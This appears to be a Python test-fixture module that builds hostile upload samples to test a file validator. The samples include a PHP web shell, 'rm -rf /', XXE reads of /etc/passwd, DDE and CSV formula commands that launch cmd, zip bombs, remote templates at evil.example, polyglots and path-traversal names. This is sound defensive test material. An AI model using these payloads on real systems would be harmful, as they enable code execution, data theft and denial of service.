"""The hostile files: a name, what is in it, and what is wrong with it. All small."""

from __future__ import annotations

import zipfile
import zlib

from tests.files.reaching_out import REACHES_OUT, XML, formula, sheet
from tests.files.uploads import (
    TYPES,
    archive,
    csv,
    document,
    jpeg,
    pdf,
    png,
    relation,
    text_in_png,
    workbook,
)

EXE = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0" + bytes(200)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
PHP = b"<?php system($_GET['c']); ?>"
BIG = 2 << 20

LAUGHS = XML + b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><workbook>&b;</workbook>'
FETCHES = XML + b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><workbook>&a;</workbook>'
MACRO_TYPES = TYPES.replace(
    b"</Types>",
    b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.'
    b'macroEnabled.main+xml"/></Types>',
)


def _locked() -> bytes:
    """A workbook whose entries say that they are encrypted, in both of their headings."""
    sound = bytearray(workbook())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = sound.find(mark)
        while at >= 0:
            sound[at + place] |= 1
            at = sound.find(mark, at + 1)
    return bytes(sound)


def _lies_about_its_size() -> bytes:
    """A workbook with two megabytes in a part that says it has ten bytes."""
    made = bytearray(workbook(xl__big_dot_xml=b"<a>" + b" " * BIG + b"</a>"))
    at = made.rfind(b"PK\x01\x02")
    made[at + 24 : at + 28] = (10).to_bytes(4, "little")
    return bytes(made)


def _damaged() -> bytes:
    made = bytearray(archive({"[Content_Types].xml": TYPES, "xl/workbook.xml": b"<a/>"}, packed=0))
    made[made.find(b"<a/>") + 1] ^= 0x20
    return bytes(made)


def _twice() -> bytes:
    parts = {"[Content_Types].xml": TYPES, "xl/workbook.xml": b"<a/>", "xl/Workbook.xml": b"<b/>"}
    return archive(parts)


def _hidden_script(inside: bytes = b"<< /S /JavaScript /JS (app.alert(1)) >>") -> bytes:
    packed = zlib.compress(inside)
    return pdf(b"/Type /ObjStm >>\nstream\n" + packed + b"\nendstream\n<<")


def _overlapping() -> bytes:
    """A workbook in which one packed megabyte stands in the directory two hundred times."""
    made = archive(
        {"[Content_Types].xml": TYPES, "xl/workbook.xml": b"<a/>", "xl/0000.xml": b" " * BIG}
    )
    begin = made.find(b"PK\x01\x02")
    places = [begin]
    while (at := made.find(b"PK\x01\x02", places[-1] + 1)) >= 0:
        places.append(at)
    end = made.rfind(b"PK\x05\x06")
    last = made[places[-1] : end]
    more = b"".join(last.replace(b"0000", b"%04d" % n) for n in range(1, 200))
    length = end - begin + len(more)
    counts = (203 - 1).to_bytes(2, "little")
    tail = b"PK\x05\x06\0\0\0\0" + counts * 2
    tail += length.to_bytes(4, "little") + begin.to_bytes(4, "little") + b"\0\0"
    return made[:end] + more + tail


def _says_it_has(entries: int) -> bytes:
    made = bytearray(workbook())
    end = made.rfind(b"PK\x05\x06")
    made[end + 8 : end + 12] = entries.to_bytes(2, "little") * 2
    return bytes(made)


def _unpacks_for_ever() -> bytes:
    packed = zlib.compress(bytes(60 << 20), 9)
    return pdf(b"/Type /ObjStm >>\nstream\n" + packed + b"\nendstream\n<<")


DISGUISED = {
    "a program as a table": ("schools.csv", EXE),
    "a program as a PDF": ("report.pdf", EXE),
    "a program as a picture": ("photo.png", EXE),
    "a Linux program as a table": ("schools.csv", b"\x7fELF\x02\x01\x01" + bytes(200)),
    "a shell script as a table": ("schools.csv", b"#!/bin/sh\nrm -rf /\n"),
    "a web page as a table": ("schools.csv", b"<!DOCTYPE html><html><script>x</script></html>"),
    "a drawing as a table": ("schools.csv", b'<svg xmlns="x" onload="alert(1)"/>'),
    "a web page behind a mark of UTF-8": ("schools.csv", b"\xef\xbb\xbf<!DOCTYPE html><html>"),
    "a PHP page as a table": ("schools.csv", PHP),
    "a rich text as a table": ("schools.csv", b"{\\rtf1 {\\object\\objupdate}}"),
    "an old Excel file as a table": ("schools.csv", OLE),
    "an old Excel file as a new one": ("schools.xlsx", OLE),
    "a workbook as a table": ("schools.csv", workbook()),
    "a table as a workbook": ("schools.xlsx", csv()),
    "a PDF as a Word document": ("plan.docx", pdf()),
    "a Word document as a workbook": ("plan.xlsx", document()),
    "a workbook as a Word document": ("plan.docx", workbook()),
    "a picture as a PDF": ("report.pdf", png()),
    "a PNG as a JPEG": ("photo.jpg", png()),
    "a GIF as a PNG": ("photo.png", b"GIF89a" + bytes(50)),
    "an archive as a workbook": ("schools.xlsx", archive({"a.txt": b"a"})),
    "a RAR as a table": ("schools.csv", b"Rar!\x1a\x07\0" + bytes(50)),
    "a gzip as a table": ("schools.csv", b"\x1f\x8b\x08\0" + bytes(50)),
    "a Java class as a table": ("schools.csv", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(50)),
    "UTF-16 without its mark as a table": ("schools.csv", "URN,Name\r\n".encode("utf-16-le")),
    "half a letter of UTF-16 as a table": ("schools.csv", "URN,Name".encode("utf-16") + b"\0"),
    "a web page in UTF-16 as a table": ("schools.csv", "<!DOCTYPE html>".encode("utf-16")),
    "a script in Unicode text": ("schools.txt", "a\tb\r\n1\t=cmd|'/c x'!A0".encode("utf-16")),
    "random bytes as a table": ("schools.csv", bytes(range(256)) * 4),
    "a message as a table": ("schools.csv", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n"),
}
BOMBS = {
    "one part that unpacks a thousandfold": (
        "bomb.xlsx",
        workbook(xl__a_dot_xml=b"<a>" + b" " * BIG + b"</a>"),
    ),
    "more parts than a workbook has": (
        "bomb.xlsx",
        archive(
            {"[Content_Types].xml": TYPES, "xl/workbook.xml": b"<a/>"}
            | {f"xl/{n}.xml": b"" for n in range(2_001)},
            packed=zipfile.ZIP_STORED,
        ),
    ),
    "an archive in the archive": ("bomb.docx", document(word__a_dot_png=archive({"a": b"a"}))),
    "a part that lies about its size": ("bomb.xlsx", _lies_about_its_size()),
    "entities that multiply": ("bomb.xlsx", workbook(xl__a_dot_xml=LAUGHS)),
    "an entity that fetches a file": ("bomb.docx", document(word__a_dot_xml=FETCHES)),
    "a PDF that unpacks without end": ("bomb.pdf", _unpacks_for_ever()),
    "a picture of four gigapixels": ("bomb.png", png(65_000, 65_000)),
    "a photograph of four gigapixels": ("bomb.jpg", jpeg(width=65_000, height=65_000)),
}
MACROS = {
    "a workbook with macros": ("m.xlsx", workbook(xl__vbaProject_dot_bin=OLE)),
    "a document with macros": ("m.docx", document(word__vbaProject_dot_bin=OLE)),
    "macros under another name": ("m.xlsx", workbook(xl__media__a_dot_png=OLE)),
    "a workbook that says it has macros": (
        "m.xlsx",
        archive({"[Content_Types].xml": MACRO_TYPES, "xl/workbook.xml": b"<a/>"}),
    ),
    "Excel 4 macros": ("m.xlsx", workbook(xl__macrosheets__sheet1_dot_xml=b"<a/>")),
    "a control that runs": ("m.docx", document(word__activeX__activeX1_dot_xml=b"<a/>")),
    "an embedded program": ("m.docx", document(word__embeddings__a_dot_docx=b"a")),
    "a workbook of another name": ("m.xlsm", workbook()),
    "a link to another workbook": (
        "m.xlsx",
        workbook(xl__externalLinks__externalLink1_dot_xml=b"<a/>"),
    ),
    "a template from elsewhere": (
        "m.docx",
        document(
            word___rels__settings_dot_xml_dot_rels=relation(
                "attachedTemplate", "https://evil.example/a.dotm"
            )
        ),
    ),
    "a picture from a share": (
        "m.docx",
        document(
            word___rels__document_dot_xml_dot_rels=relation("image", "file://evil.example/a.png")
        ),
    ),
    "a link that runs": (
        "m.docx",
        document(word___rels__document_dot_xml_dot_rels=relation("hyperlink", "javascript:x()")),
    ),
    "a field that starts a program": (
        "m.docx",
        document(word__header1_dot_xml=b'<h><instrText>DDEAUTO c:\\\\cmd.exe "/k"</instrText></h>'),
    ),
    "a formula that starts a program": (
        "m.xlsx",
        workbook(xl__worksheets__sheet1_dot_xml=b"<c><f>cmd|'/C calc'!A0</f></c>"),
    ),
    "a cell that starts a program": ("m.csv", csv("URN,Name", "1,=cmd|'/C calc'!A0")),
    "a cell with a script": ("m.csv", csv("URN,Name", "1,<script>alert(1)</script>")),
    "a PDF with a script": ("m.pdf", pdf(b"/OpenAction << /S /JavaScript /JS (x) >>")),
    "a PDF with a script spelt oddly": ("m.pdf", pdf(b"/OpenAction << /S /J#61vaScript >>")),
    "a PDF with a script packed away": ("m.pdf", _hidden_script()),
    "a PDF that starts a program": ("m.pdf", pdf(b"/OpenAction << /S /Launch /F (cmd) >>")),
    "a PDF that carries a file": ("m.pdf", pdf(b"/Names << /EmbeddedFiles 2 0 R >>")),
    "a PDF that nobody can look into": ("m.pdf", pdf(b"/Encrypt 2 0 R")),
    "a workbook that nobody can look into": ("m.xlsx", _locked()),
}
# What costs time and memory to look into, for no more than a few bytes of a sender's.
SLOW = {
    "a formula of spaces": ("s.xlsx", formula("=" + " " * 45_000)),
    "a formula of spaces and letters": ("s.xlsx", formula("=" + " a" * 900_000)),
    "a formula of open brackets": ("s.xlsx", formula("=" + "[" * 2_000_000)),
    "a formula of apostrophes": ("s.xlsx", formula("=" + "'a'" * 300_000)),
    "many formulas": ("s.xlsx", sheet(b"<c><f>=1</f></c>" * 300_000)),
    "many elements": ("s.docx", document(word__a_dot_xml=b"<a>" + b"<b/>" * 1_250_000 + b"</a>")),
    "many elements that differ": (
        "s.docx",
        document(
            word__a_dot_xml=b"<a>" + b"".join(b"<b c='%x'/>" % n for n in range(600_000)) + b"</a>"
        ),
    ),
    "elements in one another": (
        "s.docx",
        document(word__a_dot_xml=b"<a>" * 50_000 + b"</a>" * 50_000),
    ),
    "a field in many pieces": (
        "s.docx",
        document(
            word__a_dot_xml=b"<a><fldChar fldCharType='begin'/>"
            + b"<instrText>PAGE PAGE </instrText>" * 60_000
            + b"</a>"
        ),
    ),
    "a part that lies in itself": ("s.xlsx", _overlapping()),
    "more parts than it has": ("s.xlsx", _says_it_has(60_000)),
    "a million parts": ("s.xlsx", _says_it_has(0xFFFF)),
    "a PDF of arrays in one another": ("s.pdf", pdf(b"/A " + b"[" * 300_000 + b"]" * 300_000)),
    "a PDF of objects in one another": ("s.pdf", pdf(b"/A " + b"1 0 obj (" * 60_000)),
    "a PDF of many objects": ("s.pdf", pdf(b">> endobj " + b"1 0 obj 1 " * 400_000 + b"<<")),
    "a PDF of many streams": (
        "s.pdf",
        pdf(
            b">> endobj " + b"1 0 obj <</Type/ObjStm/Filter/FlateDecode>>\nstream\n"
            b""
            + zlib.compress(bytes(1 << 20), 9) * 1
            + b"\nendstream endobj "
            + (
                b"1 0 obj <</Type/ObjStm/Filter/FlateDecode>>\nstream\n"
                + zlib.compress(bytes(1 << 20), 9)
                + b"\nendstream endobj "
            )
            * 200
            + b"2 0 obj <<"
        ),
    ),
    "a PDF of letters that stand as numbers": ("s.pdf", pdf(b"/A " + b"/#41" * 240_000)),
    "a PDF of open texts": ("s.pdf", pdf(b"/A " + (b"1 0 obj (" + b"(" * 100_000) * 9)),
    "a picture of many blocks": ("s.png", png(more=b"\0\0\0\0tEXt\0\0\0\0" * 85_000 * 2)),
    "a picture of no blocks": ("s.png", png()[:8] + b"\xff\xff\xff\xffIHDR" + bytes(50)),
    "a table of one line": ("s.csv", b"a,b\r\n" + b"=," * (1 << 20)),
    "a table of spaces": ("s.csv", b"a,b\r\n=" + b" " * (1 << 21)),
}
POLYGLOTS = {
    "a picture and an archive": ("p.png", png() + archive({"a.txt": b"a"})),
    "a photograph and an archive": ("p.jpg", jpeg() + archive({"a.txt": b"a"})),
    "a PDF and an archive": ("p.pdf", pdf() + archive({"a.txt": b"a"})),
    "a PDF and a web page": ("p.pdf", pdf(b"/X (<script>alert(1)</script>)")),
    "a picture and a PHP page": ("p.png", text_in_png(PHP)),
    "a photograph and a PHP page": ("p.jpg", jpeg(PHP)),
    "a picture with a program behind it": ("p.png", png() + EXE),
    "a photograph with a program behind it": ("p.jpg", jpeg() + EXE + b"\xff\xd9"),
    "a program and a workbook": ("p.xlsx", EXE + workbook()),
    "a workbook with a page behind it": ("p.xlsx", workbook() + b"<html>"),
    "a picture before a workbook": ("p.xlsx", png() + workbook()),
    "a table and an archive": ("p.csv", csv() + archive({"a.txt": b"a"})),
    "a page before a PDF": ("p.pdf", b"<html>" + pdf()),
}
BROKEN = {
    "a workbook cut in half": ("b.xlsx", workbook()[:100]),
    "a workbook with a damaged part": ("b.xlsx", _damaged()),
    "a workbook that climbs out": ("b.xlsx", workbook(**{"..__..__etc__passwd": b"x"})),
    "a workbook with an absolute path": ("b.xlsx", workbook(__etc__passwd=b"x")),
    "a workbook with a path of Windows": ("b.xlsx", workbook(**{"C:\\a_dot_xml": b"<a/>"})),
    "a workbook with a part twice": ("b.xlsx", _twice()),
    "a workbook that is no XML": ("b.xlsx", workbook(xl__a_dot_xml=b"<a><b></a>")),
    "a PDF cut in half": ("b.pdf", pdf()[:20]),
    "a picture cut in half": ("b.png", png()[:30]),
    "a photograph cut in half": ("b.jpg", jpeg()[:20]),
}
EMPTY = {
    "nothing": ("e.csv", b""),
    "nothing as a PDF": ("e.pdf", b""),
    "only spaces": ("e.csv", b" \r\n\r\n\t"),
    "only a mark of UTF-8": ("e.csv", b"\xef\xbb\xbf"),
    "only zeros": ("e.csv", bytes(64)),
}
ODD_NAMES = {
    "a name that reads backwards": ("schools\u202evsc.exe.csv", csv()),
    "a name that ends otherwise": ("schools.csv.exe", csv()),
    "a name with a program in it": ("schools.exe.csv", csv()),
    "a name with a page in it": ("schools.php.csv", csv()),
    "a name without an ending": ("schools", csv()),
    "a name that is an ending": (".csv", csv()),
    "a name with two full stops": ("schools..csv", csv()),
    "a name with a full stop at its end": ("schools.csv.", csv()),
    "a name with a hidden character": ("scho\u200bols.csv", csv()),
    "a name with a line break": ("schools\n.csv", csv()),
    "a name of Windows": ("con.csv", csv()),
    "a name that streams": ("schools.csv::$DATA", csv()),
    "a name that is an option": ("-rf.csv", csv()),
    "a name that is too long": ("s" * 200 + ".csv", csv()),
    "a name of another kind": ("schools.rtf", csv()),
}
HOSTILE = DISGUISED | BOMBS | SLOW | MACROS | REACHES_OUT | POLYGLOTS | BROKEN | EMPTY | ODD_NAMES
